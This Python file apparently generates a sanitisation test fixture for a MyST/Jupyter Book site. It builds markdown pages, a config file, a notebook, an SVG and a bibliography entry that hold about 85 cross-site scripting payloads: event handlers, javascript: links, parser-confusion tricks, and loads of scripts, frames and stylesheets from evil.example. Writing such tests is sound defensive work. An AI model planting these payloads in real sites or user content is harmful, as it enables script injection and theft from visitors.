"""A course of attacks: what is known to run in one reader or another, written from descriptions."""

# ruff: noqa: E501 - an attack reads best on one line

import json

ACTS = "window.canary=1;alert(1)"
"""What an attack runs, if it runs."""

_HTML = [
    "<script>{0}</script>",
    "<SCRIPT\n>{0}</SCRIPT >",
    "<script src=data:text/javascript,{0}></script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror={0}>",
    '<img src="x" onerror="{0}" alt="a">',
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate attributeName=href values=javascript:{0} /><a id=x><text>x</text></a></svg>",
    "<body onload={0}>",
    "<details open ontoggle={0}><summary>s</summary>t</details>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<video><source onerror={0} src=x></video>",
    "<audio src=x onerror={0}></audio>",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=javascript:{0}></object>",
    "<object data=act.svg type=image/svg+xml></object>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>b</button></form>",
    "<button formaction=javascript:{0}>b</button>",
    "<a href=javascript:{0}>a</a>",
    "<a href='java\nscript:{0}'>a</a>",
    "<a href=&#106;avascript&colon;{0}>a</a>",
    "<a href='\x01javascript:{0}'>a</a>",
    "<a href=data:text/html,<script>{0}</script>>a</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; * {{ background: url(https://evil.example/) }}</style>",
    "<div style='background:url(https://evil.example/x)'>d</div>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>t</table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={0}&gt;'>",
    "<math href=javascript:{0}>m</math>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<textarea></textarea><img src=x onerror={0}>",
    "<template><img src=x onerror={0}></template>",
    "<xmp><img src=x onerror={0}></xmp>",
    "<!--><img src=x onerror={0}>-->",
    "<!-- --!><img src=x onerror={0}> -->",
    "<![CDATA[><img src=x onerror={0}>]]>",
    "<?xml ?><img src=x onerror={0}>",
    "<b <img src=x onerror={0}>>",
    "<a title='\"><img src=x onerror={0}>'>a</a>",
    "<p id=location><p name=body><p id=document>",
    "<x-y onclick={0}>x</x-y>",
    "<marquee onstart={0}>m</marquee>",
    "<p style='animation-name:x' onanimationstart={0}>p</p>",
]
_MYST = [
    "[a](javascript:{0})",
    "[a](<java\tscript:{0}>)",
    "<javascript:{0}>",
    "[a][r]\n\n[r]: javascript:{0}",
    "![a](javascript:{0})",
    '![a"onerror="{0}](x.png "t\\"onerror=\\"{0}")',
    "[a]{{onclick={0}}}",
    '[a]{{.b style="background:url(https://evil.example/)"}}',
    "{{span .a onclick={0}}}`x`",
    '(label"onclick="{0})=\n## Heading <img src=x onerror={0}>',
    ':::{{note}} <img src=x onerror={0}>\n:class: "><img src=x onerror={0}>\nx\n:::',
    ':::{{figure}} act.svg\n:alt: "><img src=x onerror={0}>\n:width: 1px" onload="{0}\n\nc\n:::',
    "```{{raw}} html\n<script>{0}</script>\n```",
    "{{raw:html}}`<img src=x onerror={0}>`",
    '```js" onclick="{0}\n</code></pre><script>{0}</script>\n```',
    "```{{code-block}} html\n:caption: <script>{0}</script>\n:filename: <script>{0}</script>\n<script>{0}</script>\n```",
    "$\\href{{javascript:{0}}}{{x}}$ $\\text{{<img src=x onerror={0}>}}$ $\\htmlData{{onclick={0}}}{{x}}$",
    "```{{mermaid}}\ngraph TD; A[<img src=x onerror={0}>]; click A javascript:{0}\n```",
    "```{{iframe}} javascript:{0}\n```",
    '```{{iframe}} https://evil.example/\n:title: "><img src=x onerror={0}>\n```',
    ":::{{nma-video}} <img src=x onerror={0}>\n:youtube: dQw4w9WgXcQ\n:::",
    ":::{{card}} <img src=x onerror={0}>\n:link: javascript:{0}\nx\n:::",
    "{{button}}`b <javascript:{0}>`",
    '{{abbr}}`A ("><img src=x onerror={0}>)`',
    '::::{{tab-set}}\n:::{{tab-item}} <img src=x onerror={0}>\n:sync: "><img src=x onerror={0}>\nx\n:::\n::::',
    "```{{glossary}}\n<img src=x onerror={0}>\n: d\n```",
    "{{cite:t}}`evil`",
    "| <img src=x onerror={0}> |\n|---|\n| <script>{0}</script> |",
    "Note[^1]\n\n[^1]: <img src=x onerror={0}>",
    "{{{{ '<script>{0}</script>' }}}} {{%% <script>{0}</script> %%}}",
    "```{{anywidget}} https://evil.example/x.mjs\n{{}}\n```",
    "![](https://evil.example/x.png)",
]
_OUTPUTS = {
    "text/html": "<div onclick={0}><script>{0}</script><img src=x onerror={0}>"
    "<iframe src=javascript:{0}></iframe><style>*{{x:y}}</style><table><tr><td>1</td></tr></table></div>",
    "application/javascript": "{0}",
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'><script>{0}</script></svg>",
    "text/markdown": "<img src=x onerror={0}> [a](javascript:{0})",
    "text/latex": "$\\href{{javascript:{0}}}{{x}}$",
    "application/vnd.jupyter.widget-view+json": "{{}}",
}
_TITLE = f"</script></title><img src=x onerror={ACTS}>"


def attack_course() -> dict[str, str]:
    """Return the files of the course, by path."""
    matter = json.dumps({"title": f"{_TITLE} page", "description": _TITLE, "keywords": [_TITLE]})
    texts = [text.format(ACTS) for text in (*_HTML, *_MYST)]
    pages = {f"page-{n // 12}.md": "" for n in range(len(texts))}
    for number, text in enumerate(texts):
        pages[f"page-{number // 12}.md"] += f"\n\nAttack {number}:\n\n{text}\n"
    return {
        "myst.yml": _config(),
        "index.md": "# Front\n\n[one](page-0.md) [two](page-1.md)\n",
        **{name: f"---\n{matter}\n---\n\n# Page\n{text}" for name, text in pages.items()},
        "notebook.ipynb": json.dumps(_notebook()),
        "act.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{ACTS}</script></svg>",
        "references.bib": f"@misc{{evil, title={{<img src=x onerror={ACTS}>}}, author={{<b>, X}},"
        f" year=2020, url={{javascript:{ACTS}}}, howpublished={{<script>{ACTS}</script>}}}}",
    }


def _config() -> str:
    author = {"name": f"<img src=x onerror={ACTS}>", "url": f"javascript:{ACTS}"}
    project = {"title": _TITLE, "description": _TITLE, "authors": [author], "keywords": [_TITLE]}
    link = {"title": _TITLE, "url": f"javascript:{ACTS}"}
    options = {"remote_images": "block", "logo_text": _TITLE, "logo": "act.svg"}
    site = {"title": _TITLE, "nav": [link], "actions": [link], "options": options}
    return json.dumps({"version": 1, "project": project, "site": site})


def _notebook() -> dict[str, object]:
    outputs = [
        {"output_type": "display_data", "data": {kind: text.format(ACTS)}, "metadata": {}}
        for kind, text in _OUTPUTS.items()
    ]
    escape = f"\x1b[31m<img src=x onerror={ACTS}>\x1b]8;;javascript:{ACTS}\x07link\x1b]8;;\x07"
    stream = {"output_type": "stream", "name": "stdout", "text": escape}
    error = {"output_type": "error", "ename": "<b>", "evalue": "<i>", "traceback": [escape]}
    code = {
        "cell_type": "code",
        "metadata": {},
        "execution_count": 1,
        "source": f"'</code><script>{ACTS}</script>'",
        "outputs": [*outputs, stream, error],
    }
    words = {
        "cell_type": "markdown",
        "metadata": {},
        "source": f"# N\n\n<img src=x onerror={ACTS}>",
    }
    raw = {"cell_type": "raw", "metadata": {}, "source": f"<script>{ACTS}</script>"}
    return {"cells": [words, code, raw], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
